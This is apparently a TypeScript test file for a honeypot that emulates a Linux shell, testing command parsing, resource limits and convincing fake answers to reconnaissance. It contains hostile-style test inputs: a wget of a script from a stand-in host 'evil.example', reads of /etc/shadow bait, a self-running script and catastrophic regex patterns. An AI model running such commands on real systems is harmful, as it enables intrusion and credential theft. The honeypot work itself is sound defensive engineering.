import {describe, expect, it} from 'vitest'

import {shellWorld} from './shell-world.ts'

describe('the language', () => {
  it.each([
    ['echo one; echo two', 'one\ntwo\n', 0],
    ['true && echo yes || echo no', 'yes\n', 0],
    ['false && echo yes || echo no', 'no\n', 0],
    ['false; echo $?', '1\n', 0],
    ['echo "a  b" c   d', 'a  b c d\n', 0],
    ['echo \'single $HOME\' "double $HOME" bare$HOME', 'single $HOME double /root bare/root\n', 0],
    ['echo a\\ b \\$HOME', 'a b $HOME\n', 0],
    ['X=5; echo $X ${X}x ${Y:-none}', '5 5x none\n', 0],
    ['X=5 env | grep ^X=', 'X=5\n', 0],
    ['echo $(echo in $(echo deep)) `echo back`', 'in deep back\n', 0],
    ['V="$(printf "a\\nb\\n")"; echo "$V"', 'a\nb\n', 0],
    ['echo abc | tr a-z A-Z | rev 2>/dev/null || echo lost', 'lost\n', 0],
    ['echo hi > /tmp/f; cat < /tmp/f; echo more >> /tmp/f; wc -l < /tmp/f', 'hi\n2\n', 0],
    ['nosuch 2>/dev/null; echo $?', '127\n', 0],
    ['nosuch 2>&1 | cat', 'bash: line 1: nosuch: command not found\n', 0],
    ['cat <<EOF\nx $HOME\nEOF', 'x /root\n', 0],
    ["cat <<'EOF'\nx $HOME\nEOF", 'x $HOME\n', 0],
    ['if [ -d /tmp ]; then echo dir; else echo none; fi', 'dir\n', 0],
    ['for i in 1 2 3; do echo -n $i; done; echo', '123\n', 0],
    ['i=x; while [ $i != xxx ]; do i=${i}x; done; echo $i', 'xxx\n', 0],
    ['(cd /tmp; pwd); pwd', '/tmp\n/root\n', 0],
    ['{ echo a; echo b; } | wc -l', '2\n', 0],
    ['! false; echo $?', '0\n', 0],
    ['echo x & echo y', 'x\ny\n', 0],
    ['cd /etc; ls os-rel* host*', 'hostname\nhosts\nos-release\n', 0],
    ['echo *.none', '*.none\n', 0],
    ['echo # comment', '\n', 0],
    ['sh -c "exit 7"', '', 7],
    ['exit 3; echo never', '', 3],
    ['echo -e "\\x41\\102\\tC"; echo -n x', 'AB\tC\nx', 0],
    ['echo "unclosed', 'bash: -c: line 1: unexpected EOF while looking for matching `"\'\n', 2],
    ['echo a |', 'bash: -c: line 1: unexpected end of file\n', 2],
    [') echo', "bash: -c: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `) echo'\n", 2],
  ])('%j', async (text, out, status) => {
    expect(await shellWorld().run(text)).toEqual({out, status})
  })

  it('keeps bytes that are no text', async () => {
    const world = shellWorld()
    await world.run('printf "\\377\\000\\001" > /tmp/b')
    expect(world.machine.files.read('/tmp/b', {uid: 0, gid: 0})).toEqual(Buffer.from([255, 0, 1]))
  })
})

describe('bounds', () => {
  it.each(['\xa0', '\v', '\f'])('takes %j, which is no blank, for a part of a word', async (character) => {
    const {run} = shellWorld()
    expect((await run(`echo a${character}b ${character}; echo c`)).out).toBe(`a${character}b ${character}\nc\n`)
  })

  it('stops a script that runs itself', async () => {
    const {run} = shellWorld()
    const {out} = await run('echo /tmp/a.sh > /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh')
    expect(out).toContain('Resource temporarily unavailable')
  })

  it('stops nested loops when the commands of the connection are used up', async () => {
    const world = shellWorld('root', {}, 200)
    const list = '1 2 3 4 5 6 7 8 9 10'
    await expect(
      world.run(`for a in ${list}; do for b in ${list}; do for c in ${list}; do X=$a$b$c; done; done; done`),
    ).rejects.toThrow()
  })

  it('refuses deep nesting', async () => {
    const {run} = shellWorld()
    expect((await run(`${'('.repeat(40)}id${')'.repeat(40)}`)).status).toBe(2)
  })

  it('parses 200 kB of operators in linear time', async () => {
    const {run} = shellWorld()
    const begin = performance.now()
    await run('$('.repeat(50_000))
    await run('"'.repeat(99_999))
    await run(`echo ${'a'.repeat(200_000)}`)
    expect(performance.now() - begin).toBeLessThan(2000)
  })

  it('matches a hostile pattern at once', async () => {
    const {run} = shellWorld()
    await run(
      `for i in 1 2 3 4 5 6 7 8; do echo ${'a'.repeat(5000)} >> /tmp/a; done; cat /tmp/a /tmp/a /tmp/a > /tmp/b`,
    )
    const begin = performance.now()
    for (const pattern of [
      'a*a*a*b',
      '((a+))+b',
      '(a|aa)+b',
      '(a{1,50}){1,50}b',
      `${'a?'.repeat(30)}b`,
      '.*.*=',
      '[',
    ]) {
      await run(`grep -E '${pattern}' /tmp/b`)
    }
    await run(`echo ${'a'.repeat(5000)} | grep -E '(a+)+$x'`)
    await run(`touch /tmp/${'a'.repeat(200)}; ls /tmp/${'*a'.repeat(60)}b`)
    expect(performance.now() - begin).toBeLessThan(2500)
  })
})

describe('what intruders type first', () => {
  it('tells one story about the machine', async () => {
    const {run} = shellWorld()
    const {out} = await run('hostname; cat /etc/hostname; uname -n; cat /proc/sys/kernel/hostname')
    expect(out).toBe('app-07\n'.repeat(4))
    const kernel = (await run('uname -r')).out.trim()
    expect((await run('uname -a; cat /proc/version')).out.split(kernel)).toHaveLength(3)
    expect((await run('. /etc/os-release; echo $ID')).out).toBe('debian\n')
    expect((await run('grep -c ^processor /proc/cpuinfo; nproc')).out).toMatch(/^(\d+)\n\1\n$/)
    expect((await run("free | awk '/Mem/ {print $2}'; grep MemTotal /proc/meminfo | awk '{print $2}'")).out).toMatch(
      /^(\d+)\n\1\n$/,
    )
  })

  it.each([
    ['id', /^uid=0\(root\) gid=0\(root\) groups=0\(root\)\n$/],
    ['whoami', /^root\n$/],
    ['w', /load average: 0\.\d\d, 0\.\d\d, 0\.00\nUSER/],
    ['ls -la /root', /drwx------ +\d+ root root .* \.\n/],
    ['ps aux', /root +1 .*\/sbin\/init\n/],
    ['ifconfig', /inet 192\.168\.40\.17 /],
    ['ip a', /inet 192\.168\.40\.17\/24 /],
    ['netstat -an', /0\.0\.0\.0:22 .*LISTEN/],
    ['df -h', / \/\n/],
    ['which wget python3; echo $?', /^\/usr\/bin\/wget\n1\n$/],
    ['python3 -V', /^bash: line 1: python3: command not found\n$/],
    ['/bin/busybox ECCHI', /^ECCHI: applet not found\n$/],
    ['cat /bin/echo | head -c 4', /^\x7fELF$/],
    ['crontab -l', /^no crontab for root\n$/],
    ['date +%s', /^\d{10}\n$/],
    ['cat /proc/1/cgroup', /^0::\/init\.scope\n$/],
    ['ls /.dockerenv', /No such file or directory/],
    ['mount', /^(?!.*overlay)[\s\S]*ext4/],
    ['echo x > /proc/x; echo $?', /No such file or directory\n1\n$/],
    ['rm /nothing', /^rm: cannot remove '\/nothing': No such file or directory\n$/],
    ['kill -9 4242', /No such process\n$/],
    ['base64 -d <<< aGk=', /^hi$/],
    ['apt install nmap', /Unable to locate package nmap/],
    ["awk -F: '{print $1}' /etc/passwd | head -1", /^root\n$/],
    ['grep -c . /etc/passwd | wc -l', /^1\n$/],
    ['find / -name shadow', /^\/etc\/shadow\n$/],
    ['sudo id', /^uid=0/],
  ])('%s', async (text, expected) => {
    expect((await shellWorld().run(text)).out).toMatch(expected)
  })

  it('never fetches anything and records the wish', async () => {
    const {run, requests} = shellWorld()
    expect(await run('wget -q http://evil.example/x.sh')).toEqual({
      out: "wget: unable to resolve host address 'evil.example'\n",
      status: 4,
    })
    expect((await run('curl -sS http://198.51.100.7:8080/a')).status).toBe(28)
    expect(requests).toEqual([
      {action: 'download', tool: 'wget', url: 'http://evil.example/x.sh'},
      {action: 'download', tool: 'curl', url: 'http://198.51.100.7:8080/a'},
    ])
  })

  it('records bait that is read and files that are written', async () => {
    const {run, reads, writes} = shellWorld()
    await run('cat /etc/shadow | head -1; cat /etc/passwd > /dev/null; echo payload > /tmp/p')
    expect(reads).toEqual(['/etc/shadow'])
    expect(writes).toEqual([{path: '/tmp/p', text: 'payload\n'}])
  })

  it('keeps a user out of what is not hers', async () => {
    const {run} = shellWorld('deploy')
    expect((await run('cat /etc/shadow')).out).toBe('cat: /etc/shadow: Permission denied\n')
    expect((await run('echo x > /etc/x')).out).toBe('bash: line 1: /etc/x: Permission denied\n')
    expect((await run('cd /root')).out).toBe('bash: line 1: cd: /root: Permission denied\n')
    expect((await run('sudo -n id')).status).toBe(1)
    expect((await run('pwd; touch mine && ls')).out).toBe('/home/deploy\nmine\n')
  })

  it('gives other machines other bait', async () => {
    const one = await shellWorld().run('cat /root/.bash_history /etc/shadow')
    const other = await shellWorld('root', {seed: '77'.repeat(32)}).run('cat /root/.bash_history /etc/shadow')
    expect(one.out).not.toBe(other.out)
    expect(await shellWorld().run('cat /root/.bash_history /etc/shadow')).toEqual(one)
  })

  it.each(['ubuntu22', 'ubuntu20', 'rocky9', 'centos7', 'alpine', 'fedora', 'kali', 'arch'])(
    '%s agrees with itself',
    async (distro) => {
      const {run, machine} = shellWorld('root', {distro})
      expect((await run('cat /etc/os-release')).out).toContain(`PRETTY_NAME="${machine.profile.prettyName}"`)
      expect((await run('uname -a')).out).toContain(machine.kernel.release)
      expect((await run('nosuch')).out).toMatch(distro === 'alpine' ? /nosuch: not found/ : /nosuch: command not found/)
    },
  )
})
